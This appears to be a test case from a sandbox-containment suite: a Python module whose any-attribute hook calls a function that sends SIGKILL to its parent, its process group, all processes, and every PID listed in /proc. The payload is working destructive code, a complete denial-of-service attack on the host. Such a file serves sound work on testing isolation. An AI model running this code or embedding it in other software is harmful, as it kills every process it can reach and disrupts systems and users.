# Kills every process it may: its parent, its group, and all there are.
# proof: signal 9|exit status
# only: bubblewrap docker
import os
import signal


def __getattr__(name):
    return attack


def attack(*args):
    for target in (os.getppid(), 0, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            continue
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            continue
